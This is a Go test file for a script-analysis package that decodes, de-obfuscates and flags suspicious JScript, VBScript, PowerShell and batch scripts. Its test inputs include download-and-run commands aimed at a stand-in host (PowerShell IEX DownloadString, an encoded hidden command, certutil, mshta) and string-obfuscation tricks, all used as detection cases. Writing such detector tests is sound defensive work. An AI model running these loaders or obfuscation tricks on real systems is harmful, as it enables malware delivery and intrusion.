package script

import (
	"strings"
	"testing"
	"unicode/utf16"
)

func wideBytes(s string, mark bool) []byte {
	var b []byte
	if mark {
		b = append(b, 0xFF, 0xFE)
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func TestText(t *testing.T) {
	const s = "@echo off\r\necho 請求書\r\n"
	for name, b := range map[string][]byte{
		"UTF-8": []byte(s), "UTF-8 with a mark": []byte("\xEF\xBB\xBF" + s), "UTF-16": wideBytes(s, true), "UTF-16 without a mark": wideBytes(s, false),
		"a false mark": []byte("\xFF\xFE" + s),
	} {
		if got := Text(b); got != s {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestFolding(t *testing.T) {
	for _, tt := range []struct {
		name string
		lang Language
		src  string
		want string
	}{
		{"joined", JScript, `x = "WScr" + "ipt.Sh" + 'ell'`, "WScript.Shell"},
		{"a number in between", JScript, `x = "a" + 1 + "b"`, "a1b"},
		{"through variables", JScript, `var a="WScript", b=".Shell"; new ActiveXObject(a+b)`, "WScript.Shell"},
		{"escapes", JScript, `x = "\x57\u0053cript"`, "WScript"},
		{"characters", JScript, `x = String.fromCharCode(87,83,99) + "ript"`, "WScript"},
		{"arithmetic", JScript, `x = String.fromCharCode(80+7, 90-7)`, "WS"},
		{"pieces of a text", JScript, `x = "xxWScript".substr(2, 7)`, "WScript"},
		{"an element", JScript, `x = ["a","WScript"]; y = x[1] + ".Shell"`, "WScript.Shell"},
		{"a set of characters", JScript, `x = "W@S#cript".replace(/[@#]/g, "")`, "WScript"},
		{"a division is no pattern", JScript, `y = a / 2; x = "b/c" + "d"`, "b/cd"},
		{"a pattern is no text", JScript, `y = /"/.test(s); x = "WScript"`, "WScript"},
		{"comments", JScript, `x = "a" /* " */ + "b" // "c`, "ab"},
		{"an address", JScript, `x = unescape("%57Script")`, "WScript"},
		{"joined", VBScript, `x = "WScr" & "ipt" + ".Shell"`, "WScript.Shell"},
		{"characters", VBScript, `x = Chr(87) & ChrW(&H53) & "cript"`, "WScript"},
		{"appended", VBScript, "x = \"WScr\"\nx = x & \"ipt\"", "WScript"},
		{"over lines", VBScript, "x = \"WScr\" & _\r\n \"ipt\"", "WScript"},
		{"turned around", VBScript, `x = StrReverse("tpircSW")`, "WScript"},
		{"replaced", VBScript, `x = Replace("WxScript", "x", "")`, "WScript"},
		{"quotes", VBScript, `x = "a""b"`, `a"b`},
		{"a comparison", VBScript, `If x = "abc" Then y = 1`, "abc"},
		{"joined", PowerShell, `$x = 'Down' + "load" + 'String'`, "DownloadString"},
		{"marks", PowerShell, "$x = \"Down`load\"", "Download"},
	} {
		found := false
		f := fold(t.Context(), tt.src, tt.lang)
		for _, s := range f.strings {
			found = found || s == tt.want
		}
		if !found {
			t.Errorf("%s: %s: %q", tt.lang, tt.name, f.strings)
		}
	}
}

func TestSuspicious(t *testing.T) {
	encoded := b64(wideBytes("IEX (New-Object Net.WebClient).DownloadString('http://example.test/a')", false))
	for _, tt := range []struct {
		name   string
		lang   Language
		src    string
		strong bool
	}{
		{"starts a program", JScript, `new ActiveXObject("WScript.Shell").Run("calc.exe")`, false},
		{"fetches and writes", JScript, `var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://example.test/a");var s=new ActiveXObject("ADODB.Stream");s.SaveToFile("a.exe")`, true},
		{"hidden in pieces", JScript, `var q="W"+"Sc"+"ript.S"+"hell";this["ActiveXObject"];new ActiveXObject(q)["Run"]("calc")`, false},
		{"made code", JScript, `eval(unescape("%57"))`, true},
		{"names of an obfuscator", JScript, obfuscated(), false},
		{"starts a program", VBScript, `CreateObject("WScript.Shell").Run "calc.exe"`, false},
		{"by another name", VBScript, `GetObject("new:13709620-C279-11CE-A49E-444553540000").ShellExecute "calc.exe"`, false},
		{"runs made code", VBScript, `Set s = CreateObject("WScript.Shell"): Execute Chr(1)&x`, true},
		{"fetches and runs", PowerShell, `IEX (New-Object Net.WebClient).DownloadString('http://example.test/a')`, true},
		{"with marks", PowerShell, "I`E`X (New-Object Net.WebClient).Down`loadString('http://example.test/a')", true},
		{"loads code", PowerShell, `[Reflection.Assembly]::Load([Convert]::FromBase64String('AAAA')).EntryPoint.Invoke($null,$null)`, true},
		{"encoded command", Batch, "powershell -nop -w hidden -enc " + encoded, true},
		{"any beginning of the switch", Batch, "powershell /e " + encoded, true},
		{"certutil", Batch, "certutil -urlcache -f http://example.test/a a.exe\r\na.exe", true},
		{"a variable's pieces", Batch, "set a=certutil -decode x y\r\n%a:~0,8% %a:~9,7% b c", true},
		{"a variable in pieces", Batch, "set a=certu\r\nset b=til -dec\r\n%a%%b%ode x y", true},
		{"escapes in words", Batch, "c^e^r^t^u^t^i^l x ^-^d y a^b c^d e^f", true},
		{"mshta", Batch, "mshta http://example.test/a.hta", true},
	} {
		r, _ := Judge(t.Context(), tt.src, tt.lang)
		if !r.Suspicious() || r.Strong != tt.strong {
			t.Errorf("%s: %s: %q, strong %v", tt.lang, tt.name, r.Does, r.Strong)
		}
	}
}

func obfuscated() string {
	var b strings.Builder
	for _, c := range "abcdefghijklmnopqrstuvwxyz" {
		b.WriteString("var _0x12" + string(c) + "f=_0x34" + string(c) + "e;")
	}
	return b.String()
}

func TestHonestScripts(t *testing.T) {
	for _, tt := range []struct {
		name string
		lang Language
		src  string
	}{
		{"a page's script", JScript, `document.getElementById("a").addEventListener("click", () => { window.location = "/next"; });`},
		{"a module", JScript, `const fs = require("fs"); module.exports = function () { return fs.readFileSync("a"); };`},
		{"requests in old browsers", JScript, `var x; if (window.XMLHttpRequest) x = new XMLHttpRequest(); else x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", "/a");`},
		{"characters of a library", JScript, `window.u=function(){var a=String.fromCharCode(1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18);return eval("("+a+")")}`},
		{"a message", VBScript, `MsgBox "Hello" & vbCrLf & "World"`},
		{"reading a file", VBScript, "Set f = CreateObject(\"Scripting.FileSystemObject\")\nMsgBox f.OpenTextFile(\"a.txt\").ReadAll"},
		{"a build", Batch, "@echo off\r\nsetlocal\r\nset DIR=%~dp0\r\nif \"%1\"==\"\" goto usage\r\n\"%JAVA_HOME%\\bin\\java\" -cp \"%DIR%lib\\a.jar\" Main %*\r\n:usage\r\necho usage: %0 FILE ^| more"},
		{"a script of an administrator", PowerShell, "param($Name)\nGet-ChildItem $Name | Where-Object { $_.Length -gt 1MB } | Export-Csv out.csv"},
	} {
		if r, _ := Judge(t.Context(), tt.src, tt.lang); r.Suspicious() || r.Strong {
			t.Errorf("%s: %s: %q", tt.lang, tt.name, r.Does)
		}
	}
}

func TestMarkup(t *testing.T) {
	m := Parse(`<?xml version="1.0"?><package><job id="a"><script language="VBScript"><![CDATA[
x = "</b>"
]]></script><script src="http://example.test/a.js"/></job></package><!-- <script>no</script> --><a href="javascript:go()" onclick='x("1")'>Word &amp; text</a>`)
	if m.Frame != "package" || len(m.Sections) != 4 || m.Text != "Word & text\n" {
		t.Fatalf("frame %q, %d sections, text %q", m.Frame, len(m.Sections), m.Text)
	}
	for i, want := range []Section{
		{Lang: VBScript, Source: `x = "</b>"`}, {Lang: JScript, Src: "http://example.test/a.js"}, {Lang: JScript, Source: `x("1")`, Event: "onclick"},
		{Lang: JScript, Source: "go()", Event: "href"},
	} {
		if m.Sections[i] != want {
			t.Errorf("section %d: %+v", i, m.Sections[i])
		}
	}
}

func TestAsMacro(t *testing.T) {
	got := AsMacro("Dim a\nSub b()\n c\nEnd Sub\nb\n")
	if want := "Sub AutoOpen()\nDim a\nb\n\nEnd Sub\nSub b()\n c\nEnd Sub\n"; got != want {
		t.Errorf("%q", got)
	}
}
